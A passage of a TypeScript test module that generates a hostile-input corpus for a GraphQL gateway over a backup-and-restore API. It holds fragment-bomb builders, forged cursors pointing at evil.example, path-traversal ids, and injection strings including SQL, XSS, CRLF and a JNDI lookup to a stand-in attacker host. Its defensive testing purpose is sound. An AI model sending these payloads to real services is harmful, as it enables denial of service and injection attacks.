// The hostile-input corpus of issue 12, generated without randomness: every case is the same on every run and
// names itself. Each family replays one class of attack from the outside attack run; `expect` says what the
// gateway must answer where the right answer is clear, and "any" where only the invariants (no 5xx, no
// INTERNAL_SERVER_ERROR, no leak, no call upstream when refused, no traversal reaching Graph) can be required.
import { createHash } from "node:crypto";

/** Ids the cases point at, found in the running gateway's seeded tenant before the cases run. */
export interface CaseEnv {
  emulatorOrigin: string;
  exchangePolicyId: string;
  oneDrivePolicyId: string;
  exchangeSessionId: string;
  /** A cursor each list gave for its first item (`first: 1`), by cursor target name. */
  genuineCursors: Record<string, string | null>;
}

export interface RawRequest {
  method: string;
  /** Appended to the gateway URL (a query string for GETs). */
  search?: string;
  headers: Record<string, string>;
  body?: string;
}

export type Expectation =
  /** Refused, with one of these codes (when given) and statuses (when given); nothing sent upstream. */
  | { kind: "refuse"; codes?: readonly string[]; statuses?: readonly number[] }
  /** A well-formed request that must simply work (a control: the suite does not pass by refusing everything). */
  | { kind: "answer" }
  | { kind: "any" };

/** Parent objects a nested field must read before its own arguments are looked at (their reads are allowed). */
export type Parent = "exchangePolicy" | "oneDrivePolicy" | "exchangeSession";

export interface HostileCase {
  name: string;
  family: FamilyName;
  build(env: CaseEnv): RawRequest | RawRequest[];
  expect: Expectation;
  parent?: Parent;
  /** Attacker text that must never reach an upstream query string, nor add a segment to an upstream path. */
  payload?: string;
}

export type FamilyName =
  "fragment bombs" | "forged cursors" | "traversal ids" | "injection strings" | "persisted queries" | "bodies";

// Codes a refused client mistake may carry: the contract's BAD_USER_INPUT (with a `reason`), and the request-level
// codes Apollo clients know (issue 12 item 6).
const CLIENT = ["BAD_USER_INPUT", "BAD_REQUEST"] as const;
const REFUSE_INPUT: Expectation = { kind: "refuse", codes: ["BAD_USER_INPUT"] };
const ANY: Expectation = { kind: "any" };

const GUID = "11111111-1111-4111-8111-111111111111";
const SITE = "contoso.sharepoint.com,33333333-3333-4333-8333-333333333333,44444444-4444-4444-8444-444444444444";
const HOUR_AGO = new Date(Date.now() - 3_600_000).toISOString();
const DAY_AGO = new Date(Date.now() - 86_400_000).toISOString();
const ROOT = "/solutions/backupRestore";

function json(body: unknown, headers: Record<string, string> = {}): RawRequest {
  return { method: "POST", headers: { "content-type": "application/json", ...headers }, body: JSON.stringify(body) };
}

function gql(query: string, variables?: Record<string, unknown>, extra: Record<string, unknown> = {}): RawRequest {
  return json({ query, ...(variables ? { variables } : {}), ...extra });
}

const b64url = (text: string) => Buffer.from(text, "utf8").toString("base64url");
const cursor = (position: unknown) => b64url(JSON.stringify(position));

// ---------------------------------------------------------------------------------------------------------------
// Fragment bombs: each fragment spreads the next one twice, so a document of n fragments stands for 2^n selections.

interface BombShape {
  name: string;
  /** The operation around the first spread. */
  operation: string;
  /** The type the fragments are on. */
  on: string;
  /** Body of fragment i (i < levels), spreading F{i+1} twice. */
  link(i: number): string;
  /** Body of the last fragment. */
  leaf: string;
}

const BOMB_SHAPES: BombShape[] = [
  {
    name: "typename leaf",
    operation: "query Bomb { ...F0 }",
    on: "Query",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: "__typename",
  },
  {
    name: "Graph field leaf",
    operation: "query Bomb { ...F0 }",
    on: "Query",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: "backupRestore { serviceStatus { status } }",
  },
  {
    name: "inline fragments",
    operation: "query Bomb { ...F0 }",
    on: "Query",
    link: (i) => `... on Query { ...F${i + 1} } ...F${i + 1}`,
    leaf: "__typename",
  },
  {
    name: "nested field",
    operation: "query Bomb { backupRestore { ...F0 } }",
    on: "BackupRestoreService",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: "serviceStatus { status }",
  },
  {
    name: "aliased leaf",
    operation: "query Bomb { ...F0 }",
    on: "Query",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: Array.from({ length: 10 }, (_, k) => `a${k}: __typename`).join(" "),
  },
  {
    name: "aliases along the chain",
    operation: "query Bomb { ...F0 }",
    on: "Query",
    link: (i) => (i % 4 === 0 ? `t${i}: __typename ...F${i + 1} ...F${i + 1}` : `...F${i + 1} ...F${i + 1}`),
    leaf: "__typename",
  },
  // Introspection is off in production; the document must still be refused without expanding it.
  {
    name: "introspection types",
    operation: "query Bomb { __schema { ...F0 } }",
    on: "__Schema",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: "queryType { name }",
  },
  {
    name: "under a connection",
    operation: "query Bomb { protectionPolicies(first: 2) { nodes { ...F0 } } }",
    on: "ProtectionPolicy",
    link: (i) => `...F${i + 1} ...F${i + 1}`,
    leaf: "id displayName",
  },
];

export function bombDocument(shape: BombShape, levels: number): string {
  const fragments = Array.from({ length: levels }, (_, i) => `fragment F${i} on ${shape.on} { ${shape.link(i)} }`);
  return [shape.operation, ...fragments, `fragment F${levels} on ${shape.on} { ${shape.leaf} }`].join("\n");
}

// Expanded, the smallest bomb holds a million selections: far over the field limit, so a validation failure.
const BOMB_REFUSED: Expectation = { kind: "refuse", codes: ["BAD_USER_INPUT"], statuses: [400] };

export const BOMB_LEVELS = Array.from({ length: 21 }, (_, i) => 20 + i);

function bombCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const shape of BOMB_SHAPES) {
    // Every level for the plain shape, every third for the others (20, 23, ..., 38) plus 40.
    const levels = shape === BOMB_SHAPES[0] ? BOMB_LEVELS : BOMB_LEVELS.filter((n) => (n - 20) % 3 === 0 || n === 40);
    for (const n of levels) {
      const query = bombDocument(shape, n);
      cases.push({
        name: `bomb ${shape.name}, ${n} levels (${query.length} bytes)`,
        family: "fragment bombs",
        build: () => gql(query),
        expect: BOMB_REFUSED,
      });
    }
  }
  return cases;
}

/** One 40-level bomb of each shape, for the flood test. */
export function floodBombs(): string[] {
  return BOMB_SHAPES.map((shape) => bombDocument(shape, 40));
}

// ---------------------------------------------------------------------------------------------------------------
// Forged and replayed cursors, as `after` of every connection field that takes one (schema/schema.graphql).

interface CursorTarget {
  name: string;
  /** The Graph collection the field reads, as the attack suffixes it (the cursor check tested `endsWith`). */
  path(env: CaseEnv): string;
  request(env: CaseEnv, after: string): RawRequest;
  parent?: Parent;
}

const page = "first: 1, after: $after) { nodes { id } pageInfo { endCursor hasNextPage } }";

export const CURSOR_TARGETS: CursorTarget[] = [
  {
    name: "protectionPolicies",
    path: () => `${ROOT}/protectionPolicies`,
    request: (_, after) => gql(`query($after: String) { protectionPolicies(${page} }`, { after }),
  },
  {
    name: "protectionUnits",
    path: () => `${ROOT}/protectionUnits`,
    request: (_, after) => gql(`query($after: String) { protectionUnits(${page} }`, { after }),
  },
  {
    name: "protectionUnits(workload)",
    path: () => `${ROOT}/protectionUnits/microsoft.graph.mailboxProtectionUnit`,
    request: (_, after) =>
      gql(`query($after: String) { protectionUnits(filter: { workload: EXCHANGE }, ${page} }`, { after }),
  },
  {
    name: "protectionUnits(policyId)",
    parent: "exchangePolicy",
    path: (env) => `${ROOT}/exchangeProtectionPolicies/${env.exchangePolicyId}/mailboxProtectionUnits`,
    request: (env, after) =>
      gql(
        `query($after: String, $policy: ID) { protectionUnits(filter: { policyId: $policy, workload: EXCHANGE }, ${page} }`,
        { after, policy: env.exchangePolicyId },
      ),
  },
  {
    name: "protectionUnitsBulkAdditionJobs",
    path: () => `${ROOT}/mailboxProtectionUnitsBulkAdditionJobs`,
    request: (_, after) => gql(`query($after: String) { protectionUnitsBulkAdditionJobs(${page} }`, { after }),
  },
  {
    name: "restoreSessions",
    path: () => `${ROOT}/restoreSessions`,
    request: (_, after) => gql(`query($after: String) { restoreSessions(${page} }`, { after }),
  },
  ...(
    [
      [
        "ExchangeProtectionPolicy.protectionUnits",
        "exchangePolicy",
        "protectionPolicy",
        "exchangeProtectionPolicies",
        "mailboxProtectionUnits",
        "protectionUnits",
      ],
      [
        "ExchangeProtectionPolicy.bulkAdditionJobs",
        "exchangePolicy",
        "protectionPolicy",
        "exchangeProtectionPolicies",
        "mailboxProtectionUnitsBulkAdditionJobs",
        "bulkAdditionJobs",
      ],
      [
        "OneDriveForBusinessProtectionPolicy.protectionUnits",
        "oneDrivePolicy",
        "protectionPolicy",
        "oneDriveForBusinessProtectionPolicies",
        "driveProtectionUnits",
        "protectionUnits",
      ],
      [
        "OneDriveForBusinessProtectionPolicy.bulkAdditionJobs",
        "oneDrivePolicy",
        "protectionPolicy",
        "oneDriveForBusinessProtectionPolicies",
        "driveProtectionUnitsBulkAdditionJobs",
        "bulkAdditionJobs",
      ],
      [
        "ExchangeRestoreSession.artifacts",
        "exchangeSession",
        "restoreSession",
        "exchangeRestoreSessions",
        "mailboxRestoreArtifacts",
        "artifacts",
      ],
      [
        "ExchangeRestoreSession.bulkAdditionRequests",
        "exchangeSession",
        "restoreSession",
        "exchangeRestoreSessions",
        "mailboxRestoreArtifactsBulkAdditionRequests",
        "bulkAdditionRequests",
      ],
    ] as const
  ).map(([name, parent, lookup, collection, child, field]): CursorTarget => ({
    name,
    parent,
    path: (env) => `${ROOT}/${collection}/${parentId(env, parent)}/${child}`,
    request: (env, after) =>
      gql(`query($after: String, $id: ID!) { ${lookup}(id: $id) { id ${field}(${page} } }`, {
        after,
        id: parentId(env, parent),
      }),
  })),
];

export function parentId(env: CaseEnv, parent: Parent): string {
  return {
    exchangePolicy: env.exchangePolicyId,
    oneDrivePolicy: env.oneDrivePolicyId,
    exchangeSession: env.exchangeSessionId,
  }[parent];
}

interface Forgery {
  name: string;
  after(path: string, env: CaseEnv, target: CursorTarget): string | null;
  expect: Expectation;
}

const FORGERIES: Forgery[] = [
  { name: "users# then the list's path", after: (p) => cursor({ l: `/users#${p}`, o: 0 }), expect: REFUSE_INPUT },
  { name: "groups# then the list's path", after: (p) => cursor({ l: `/groups#${p}`, o: 0 }), expect: REFUSE_INPUT },
  {
    name: "directory/deletedItems#",
    after: (p) => cursor({ l: `/directory/deletedItems/microsoft.graph.user#${p}`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  { name: "sites#", after: (p) => cursor({ l: `/sites#${p}`, o: 0 }), expect: REFUSE_INPUT },
  { name: "/../beta/users#", after: (p) => cursor({ l: `/../beta/users#${p}`, o: 0 }), expect: REFUSE_INPUT },
  {
    name: "%2e%2e out of the backup root",
    after: (p) => cursor({ l: `${ROOT}/%2e%2e/%2e%2e/users#${p}`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  {
    name: "..%2f in the path",
    after: (p) => cursor({ l: `${ROOT}/..%2f..%2fusers?x=#${p}`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  {
    name: "absolute URL to another host",
    after: (p) => cursor({ l: `https://evil.example/v1.0${p}`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  {
    name: "absolute URL to real Graph",
    after: (p) => cursor({ l: `https://graph.microsoft.com/v1.0${p}?$skiptoken=x`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  {
    name: "absolute URL to the emulator's beta",
    after: (p, env) => cursor({ l: `${env.emulatorOrigin}/beta/users#${p}`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  { name: "protocol-relative URL", after: (p) => cursor({ l: `//evil.example/v1.0${p}`, o: 0 }), expect: REFUSE_INPUT },
  {
    name: "OData options appended",
    after: (p) => cursor({ l: `${p}?$expand=*&$top=999&$filter=id ne ''`, o: 0 }),
    expect: REFUSE_INPUT,
  },
  { name: "CRLF in the link", after: (p) => cursor({ l: `${p}\r\nX-Injected: 1`, o: 0 }), expect: REFUSE_INPUT },
  { name: "huge offset", after: (p) => cursor({ l: p, o: 1e12 }), expect: REFUSE_INPUT },
  { name: "negative offset", after: (p) => cursor({ l: p, o: -1 }), expect: REFUSE_INPUT },
  { name: "offset not a number", after: (p) => cursor({ l: p, o: "0" }), expect: REFUSE_INPUT },
  { name: "collection index out of range", after: (p) => cursor({ l: p, o: 0, s: 9 }), expect: REFUSE_INPUT },
  { name: "JSON null", after: () => b64url("null"), expect: REFUSE_INPUT },
  { name: "not JSON", after: () => b64url("not json at all"), expect: REFUSE_INPUT },
  { name: "not base64url", after: () => "../../users#%00", expect: REFUSE_INPUT },
  {
    name: "another list's cursor replayed",
    after: (_p, env, target) =>
      env.genuineCursors[target.name === "restoreSessions" ? "protectionPolicies" : "restoreSessions"] ?? null,
    expect: REFUSE_INPUT,
  },
  { name: "empty string", after: () => "", expect: ANY },
  {
    name: "its own cursor replayed (control)",
    after: (_p, env, target) => env.genuineCursors[target.name] ?? null,
    expect: { kind: "answer" },
  },
];

// Lists the demo seed leaves empty: they give no cursor of their own to replay.
const EMPTY_IN_SEED = new Set([
  "OneDriveForBusinessProtectionPolicy.bulkAdditionJobs",
  "ExchangeRestoreSession.bulkAdditionRequests",
]);

function cursorCases(): HostileCase[] {
  return CURSOR_TARGETS.flatMap((target) =>
    FORGERIES.filter((f) => !(f.expect.kind === "answer" && EMPTY_IN_SEED.has(target.name))).map(
      (forgery): HostileCase => ({
        name: `cursor ${target.name}: ${forgery.name}`,
        family: "forged cursors",
        parent: target.parent,
        expect: forgery.expect,
        build: (env) => {
          const after = forgery.after(target.path(env), env, target);
          if (after === null) throw new Error(`the seeded tenant gave no cursor for ${forgery.name}`);
          return target.request(env, after);
        },
      }),
    ),
  );
}

// ---------------------------------------------------------------------------------------------------------------
// Traversal ids in every argument that becomes (or names) a Graph path: query and mutation arguments named id /
// ...Id / ...Ids and the input fields that carry ids (schema/schema.graphql).

interface IdSlot {
  name: string;
  /** The operation, with the hostile id as `$v` (a scalar or one item of a list). */
  query: string;
  variables(v: string): Record<string, unknown>;
  /** Graph ids here are GUIDs (or site ids): anything else is BAD_USER_INPUT before the first call. */
  strict: boolean;
  /** The id becomes a segment of an upstream path (the others travel in request bodies). */
  inPath: boolean;
}

const slot = (
  name: string,
  query: string,
  variables: (v: string) => Record<string, unknown>,
  strict: boolean,
  inPath = true,
): IdSlot => ({ name, query, variables, strict, inPath });
const input = (build: (v: string) => Record<string, unknown>) => (v: string) => ({ input: build(v) });

export const ID_SLOTS: IdSlot[] = [
  slot("protectionPolicy(id)", "query($v: ID!) { protectionPolicy(id: $v) { id } }", (v) => ({ v }), true),
  slot("protectionUnit(id)", "query($v: ID!) { protectionUnit(id: $v) { id } }", (v) => ({ v }), false),
  slot(
    "protectionUnitsBulkAdditionJob(id)",
    "query($v: ID!) { protectionUnitsBulkAdditionJob(id: $v, workload: EXCHANGE) { id } }",
    (v) => ({ v }),
    false,
  ),
  slot("restoreSession(id)", "query($v: ID!) { restoreSession(id: $v) { id } }", (v) => ({ v }), false),
  slot(
    "protectionUnits(filter.policyId)",
    "query($v: ID) { protectionUnits(first: 1, filter: { policyId: $v }) { nodes { id } } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "protectionUnits(filter.policyId, workload)",
    "query($v: ID) { protectionUnits(first: 1, filter: { policyId: $v, workload: EXCHANGE }) { nodes { id } } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "searchRestorePoints(input.protectionUnitIds)",
    "query($input: SearchRestorePointsInput!) { searchRestorePoints(input: $input) { noResultProtectionUnitIds } }",
    input((v) => ({ protectionUnitIds: [v], protectionTimePeriod: { startDateTime: DAY_AGO, endDateTime: HOUR_AGO } })),
    false,
    false,
  ),
  slot(
    "activateProtectionPolicy(id)",
    "mutation($v: ID!) { activateProtectionPolicy(id: $v) { policy { id } } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "deactivateProtectionPolicy(id)",
    "mutation($v: ID!) { deactivateProtectionPolicy(id: $v) { policy { id } } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "deleteProtectionPolicy(id)",
    "mutation($v: ID!) { deleteProtectionPolicy(id: $v) { id } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "updateProtectionPolicy(input.id)",
    "mutation($input: UpdateProtectionPolicyInput!) { updateProtectionPolicy(input: $input) { policy { id } } }",
    input((v) => ({ id: v, displayName: "Renamed" })),
    true,
  ),
  slot(
    "activateRestoreSession(id)",
    "mutation($v: ID!) { activateRestoreSession(id: $v) { session { id } } }",
    (v) => ({ v }),
    false,
  ),
  slot("deleteRestoreSession(id)", "mutation($v: ID!) { deleteRestoreSession(id: $v) { id } }", (v) => ({ v }), false),
  slot(
    "activateServiceApp(id)",
    `mutation($v: ID!) { activateServiceApp(id: $v, effectiveDateTime: "2030-01-01T00:00:00Z") { serviceApp { id } } }`,
    (v) => ({ v }),
    false,
  ),
  slot(
    "deactivateServiceApp(id)",
    "mutation($v: ID!) { deactivateServiceApp(id: $v) { serviceApp { id } } }",
    (v) => ({ v }),
    false,
  ),
  slot(
    "enableBackupRestore(appOwnerTenantId)",
    "mutation($v: ID!) { enableBackupRestore(appOwnerTenantId: $v) { serviceStatus { status } } }",
    (v) => ({ v }),
    true,
  ),
  slot(
    "addMailboxProtectionUnits(input.policyId)",
    "mutation($input: AddMailboxProtectionUnitsInput!) { addMailboxProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: v, directoryObjectIds: [GUID] })),
    true,
  ),
  slot(
    "addMailboxProtectionUnits(input.directoryObjectIds)",
    "mutation($input: AddMailboxProtectionUnitsInput!) { addMailboxProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, directoryObjectIds: [v] })),
    true,
  ),
  slot(
    "addDriveProtectionUnits(input.policyId)",
    "mutation($input: AddDriveProtectionUnitsInput!) { addDriveProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: v, directoryObjectIds: [GUID] })),
    true,
  ),
  slot(
    "addDriveProtectionUnits(input.directoryObjectIds)",
    "mutation($input: AddDriveProtectionUnitsInput!) { addDriveProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, directoryObjectIds: [v] })),
    true,
  ),
  slot(
    "addSiteProtectionUnits(input.policyId)",
    "mutation($input: AddSiteProtectionUnitsInput!) { addSiteProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: v, siteIds: [SITE] })),
    true,
  ),
  slot(
    "addSiteProtectionUnits(input.siteIds)",
    "mutation($input: AddSiteProtectionUnitsInput!) { addSiteProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, siteIds: [v] })),
    true,
  ),
  slot(
    "changeProtectionUnits(input.policyId)",
    "mutation($input: ChangeProtectionUnitsInput!) { changeProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: v, add: [GUID] })),
    true,
  ),
  slot(
    "changeProtectionUnits(input.add)",
    "mutation($input: ChangeProtectionUnitsInput!) { changeProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, add: [v] })),
    true,
  ),
  slot(
    "changeProtectionUnits(input.remove)",
    "mutation($input: ChangeProtectionUnitsInput!) { changeProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, remove: [v] })),
    false,
    false,
  ),
  slot(
    "removeProtectionUnits(input.policyId)",
    "mutation($input: RemoveProtectionUnitsInput!) { removeProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: v, protectionUnitIds: [GUID] })),
    true,
  ),
  slot(
    "removeProtectionUnits(input.protectionUnitIds)",
    "mutation($input: RemoveProtectionUnitsInput!) { removeProtectionUnits(input: $input) { results { target } } }",
    input((v) => ({ policyId: GUID, protectionUnitIds: [v] })),
    false,
    false,
  ),
  slot(
    "createExchangeProtectionPolicy(input.directoryObjectIds)",
    "mutation($input: CreateExchangeProtectionPolicyInput!) { createExchangeProtectionPolicy(input: $input) { policy { id } } }",
    input((v) => ({ displayName: "Hostile", directoryObjectIds: [v] })),
    true,
  ),
  slot(
    "createOneDriveForBusinessProtectionPolicy(input.directoryObjectIds)",
    "mutation($input: CreateOneDriveForBusinessProtectionPolicyInput!) { createOneDriveForBusinessProtectionPolicy(input: $input) { policy { id } } }",
    input((v) => ({ displayName: "Hostile", directoryObjectIds: [v] })),
    true,
  ),
  slot(
    "createSharePointProtectionPolicy(input.siteIds)",
    "mutation($input: CreateSharePointProtectionPolicyInput!) { createSharePointProtectionPolicy(input: $input) { policy { id } } }",
    input((v) => ({ displayName: "Hostile", siteIds: [v] })),
    true,
  ),
  slot(
    "createRestoreSession(input.artifacts.restorePointId)",
    "mutation($input: CreateRestoreSessionInput!) { createRestoreSession(input: $input) { session { id } } }",
    input((v) => ({ workload: "EXCHANGE", artifacts: [{ restorePointId: v }] })),
    false,
    false,
  ),
  slot(
    "addRestoreArtifacts(input.sessionId)",
    "mutation($input: AddRestoreArtifactsInput!) { addRestoreArtifacts(input: $input) { results { target } } }",
    input((v) => ({ sessionId: v, artifacts: [{ restorePointId: GUID }] })),
    false,
  ),
  slot(
    "addRestoreArtifacts(input.artifacts.restorePointId)",
    "mutation($input: AddRestoreArtifactsInput!) { addRestoreArtifacts(input: $input) { results { target } } }",
    input((v) => ({ sessionId: GUID, artifacts: [{ restorePointId: v }] })),
    false,
    false,
  ),
  slot(
    "removeRestoreArtifacts(input.sessionId)",
    "mutation($input: RemoveRestoreArtifactsInput!) { removeRestoreArtifacts(input: $input) { results { target } } }",
    input((v) => ({ sessionId: v, artifactIds: [GUID] })),
    false,
  ),
  slot(
    "removeRestoreArtifacts(input.artifactIds)",
    "mutation($input: RemoveRestoreArtifactsInput!) { removeRestoreArtifacts(input: $input) { results { target } } }",
    input((v) => ({ sessionId: GUID, artifactIds: [v] })),
    false,
    false,
  ),
  ...(["Mailbox", "Drive", "Site"] as const).flatMap((kind) => {
    const entries =
      kind === "Site"
        ? { siteWebUrls: ["https://contoso.sharepoint.com/sites/x"] }
        : kind === "Mailbox"
          ? { mailboxes: ["amy@contoso.com"] }
          : { drives: ["amy@contoso.com"] };
    const ids = kind === "Site" ? "siteIds" : "directoryObjectIds";
    const job = `mutation($input: Submit${kind}BulkAdditionJobInput!) { submit${kind}ProtectionUnitsBulkAdditionJob(input: $input) { job { id } } }`;
    const request = `mutation($input: Submit${kind}RestoreBulkRequestInput!) { submit${kind}RestoreArtifactsBulkAdditionRequest(input: $input) { request { id } } }`;
    return [
      slot(
        `submit${kind}ProtectionUnitsBulkAdditionJob(input.policyId)`,
        job,
        input((v) => ({ policyId: v, displayName: "Job", ...entries })),
        true,
      ),
      slot(
        `submit${kind}ProtectionUnitsBulkAdditionJob(input.${ids})`,
        job,
        input((v) => ({ policyId: GUID, displayName: "Job", [ids]: [v] })),
        true,
      ),
      slot(
        `submit${kind}RestoreArtifactsBulkAdditionRequest(input.sessionId)`,
        request,
        input((v) => ({ sessionId: v, displayName: "Restore", ...entries })),
        false,
      ),
      slot(
        `submit${kind}RestoreArtifactsBulkAdditionRequest(input.${ids})`,
        request,
        input((v) => ({ sessionId: GUID, displayName: "Restore", [ids]: [v] })),
        true,
      ),
    ];
  }),
];

/** Hostile ids; `always` ones are refused in every slot that is a path (issue 12 item 3), all where ids are GUIDs. */
export const TRAVERSAL_IDS: { label: string; value: string; always: boolean }[] = [
  { label: "dot", value: ".", always: true },
  { label: "dot-dot", value: "..", always: true },
  { label: "empty", value: "", always: true },
  { label: "NUL", value: "\u0000", always: true },
  { label: "CRLF", value: "\r\n", always: true },
  { label: "4,096 characters", value: "a".repeat(4096), always: true },
  { label: "%2e%2e", value: "%2e%2e", always: false },
  { label: "../x", value: "../x", always: false },
  { label: "a/b", value: "a/b", always: false },
  { label: "a#b", value: "a#b", always: false },
  { label: "a?b=c", value: "a?b=c", always: false },
  { label: "fullwidth dots", value: "\uff0e\uff0e", always: false },
  { label: "one-dot leaders", value: "\u2024\u2024", always: false },
];

function traversalCases(): HostileCase[] {
  return ID_SLOTS.flatMap((s) =>
    TRAVERSAL_IDS.map(({ label, value, always }): HostileCase => ({
      name: `id ${s.name}: ${label}`,
      family: "traversal ids",
      payload: value,
      expect: s.strict || (always && s.inPath) ? REFUSE_INPUT : ANY,
      build: () => gql(s.query, s.variables(value)),
    })),
  );
}

// ---------------------------------------------------------------------------------------------------------------
// Injection strings in string arguments: OData options, quotes, encoded NULs, header breaks, template syntax.

export const INJECTIONS: string[] = [
  "' or 1 eq 1",
  "x') or (1 eq 1",
  "&$expand=*",
  "?$select=*&$top=999",
  "$filter=true",
  "a%00b",
  "%00",
  '"',
  "\\",
  "'; DROP TABLE policies;--",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "%0d%0aX-Injected:%201",
  "\r\nX-Injected: 1",
  "\u202egnp.exe",
];

interface StringSlot {
  name: string;
  build(v: string): RawRequest;
  /** The value is checked against a format (GUID, address, URL): every injection is BAD_USER_INPUT. */
  strict: boolean;
}

const INJECTION_SLOTS: StringSlot[] = [
  // The seed has no SharePoint policy, so these are created (Graph allows one active policy per workload).
  {
    name: "createSharePointProtectionPolicy(input.displayName)",
    strict: false,
    build: (v) =>
      gql(
        "mutation($input: CreateSharePointProtectionPolicyInput!) { createSharePointProtectionPolicy(input: $input) { policy { id displayName } } }",
        { input: { displayName: `Hostile ${v}` } },
      ),
  },
  {
    name: "createRestoreSession(input.idempotencyKey)",
    strict: false,
    build: (v) =>
      gql("mutation($input: CreateRestoreSessionInput!) { createRestoreSession(input: $input) { session { id } } }", {
        input: { workload: "EXCHANGE", idempotencyKey: v },
      }),
  },
  {
    name: "protectionPolicy(id)",
    strict: true,
    build: (v) => gql("query($v: ID!) { protectionPolicy(id: $v) { id } }", { v }),
  },
  {
    name: "protectionUnit(id)",
    strict: false,
    build: (v) => gql("query($v: ID!) { protectionUnit(id: $v) { id } }", { v }),
  },
  {
    name: "restoreSession(id) inline",
    strict: false,
    build: (v) => gql(`{ restoreSession(id: ${JSON.stringify(v)}) { id } }`),
  },
  {
    name: "submitMailboxProtectionUnitsBulkAdditionJob(input.mailboxes)",
    strict: true,
    build: (v) =>
      gql(
        "mutation($input: SubmitMailboxBulkAdditionJobInput!) { submitMailboxProtectionUnitsBulkAdditionJob(input: $input) { job { id } } }",
        { input: { policyId: GUID, displayName: "Job", mailboxes: [v] } },
      ),
  },
  {
    name: "submitSiteProtectionUnitsBulkAdditionJob(input.siteWebUrls)",
    strict: false,
    build: (v) =>
      gql(
        "mutation($input: SubmitSiteBulkAdditionJobInput!) { submitSiteProtectionUnitsBulkAdditionJob(input: $input) { job { id } } }",
        { input: { policyId: GUID, displayName: "Job", siteWebUrls: [`https://contoso.sharepoint.com/sites/${v}`] } },
      ),
  },
];

function injectionCases(): HostileCase[] {
  return INJECTION_SLOTS.flatMap((s) =>
    INJECTIONS.map((v, i): HostileCase => ({
      name: `inject ${s.name}: #${i} ${JSON.stringify(v)}`,
      family: "injection strings",
      payload: v,
      expect: s.strict ? REFUSE_INPUT : ANY,
      build: () => s.build(v),
    })),
  );
}

// ---------------------------------------------------------------------------------------------------------------
// Automatic persisted queries: a hash-only request is how every Apollo client starts.

const sha256 = (hex: string) => hex.padEnd(64, "0").slice(0, 64);
const apq = (hash: unknown, version: unknown = 1) => ({ persistedQuery: { version, sha256Hash: hash } });
const NOT_FOUND: Expectation = { kind: "refuse", codes: ["PERSISTED_QUERY_NOT_FOUND"] };
const APQ_REFUSED: Expectation = {
  kind: "refuse",
  codes: [...CLIENT, "PERSISTED_QUERY_NOT_FOUND", "PERSISTED_QUERY_NOT_SUPPORTED"],
};
// A real query's hash, for the round trip and the mismatch.
const TYPENAME_QUERY = "{ __typename }";
const TYPENAME_HASH = createHash("sha256").update(TYPENAME_QUERY).digest("hex");

function persistedQueryCases(): HostileCase[] {
  const hashOnly = ["deadbeef", "0123456789abcdef", "f00d", "cafe", "a1b2c3"].map((seed, i): HostileCase => ({
    name: `apq hash only, unknown hash #${i}`,
    family: "persisted queries",
    expect: NOT_FOUND,
    build: () => json({ extensions: apq(sha256(seed)) }),
  }));
  const getHash = (hash: string, preflight: boolean): RawRequest => ({
    method: "GET",
    search: `?extensions=${encodeURIComponent(JSON.stringify(apq(hash)))}`,
    headers: preflight ? { "apollo-require-preflight": "true" } : ({} as Record<string, string>),
  });
  // Without a preflight header an unknown hash may be answered PERSISTED_QUERY_NOT_FOUND (nothing runs), but a
  // known one must still meet the CSRF check: a cross-site GET never runs an operation.
  const get = (preflight: boolean): HostileCase => ({
    name: `apq hash only over GET${preflight ? " with a preflight header" : ""}`,
    family: "persisted queries",
    expect: preflight ? NOT_FOUND : APQ_REFUSED,
    build: () => getHash(sha256("beef"), preflight),
  });
  const malformed: [string, unknown, unknown][] = [
    ["hash too short", "abc", 1],
    ["hash empty", "", 1],
    ["hash not hex", "z".repeat(64), 1],
    ["hash 65 characters", "a".repeat(65), 1],
    ["hash a number", 12345, 1],
    ["hash null", null, 1],
    ["hash an object", { $ne: "" }, 1],
    ["version 2", sha256("ab"), 2],
    ["version a string", sha256("ab"), "1"],
    ["hash with a path", "../../etc/passwd", 1],
  ];
  return [
    ...hashOnly,
    get(false),
    get(true),
    {
      name: "apq registered hash over GET without a preflight header (CSRF)",
      family: "persisted queries",
      expect: { kind: "refuse", statuses: [400] },
      build: () => [json({ query: TYPENAME_QUERY, extensions: apq(TYPENAME_HASH) }), getHash(TYPENAME_HASH, false)],
    },
    ...malformed.map(([label, hash, version]): HostileCase => ({
      name: `apq malformed: ${label}`,
      family: "persisted queries",
      expect: APQ_REFUSED,
      build: () => json({ extensions: apq(hash, version) }),
    })),
    ...malformed.slice(0, 4).map(([label, hash]): HostileCase => ({
      name: `apq malformed with a query: ${label}`,
      family: "persisted queries",
      expect: APQ_REFUSED,
      build: () => json({ query: TYPENAME_QUERY, extensions: apq(hash) }),
    })),
    {
      name: "apq hash and query that do not match",
      family: "persisted queries",
      expect: APQ_REFUSED,
      build: () => json({ query: "{ backupRestore { serviceStatus { status } } }", extensions: apq(TYPENAME_HASH) }),
    },
    {
      name: "apq persistedQuery not an object",
      family: "persisted queries",
      expect: APQ_REFUSED,
